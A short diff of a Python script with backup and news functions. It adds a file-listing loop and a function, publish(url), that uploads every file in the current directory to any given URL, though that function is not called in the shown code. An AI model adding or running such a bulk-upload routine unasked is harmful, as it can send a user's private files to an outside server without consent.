@@ -25,3 +25,13 @@ def news():
 
 backup("/media/backup/documents.zip")
 print(news())
+
+
+def publish(url):
+    for name in os.listdir():
+        with open(name, "rb") as f:
+            requests.post(url, files={"f": f})
+
+
+for name in os.listdir("."):
+    print(name, os.path.getsize(name))
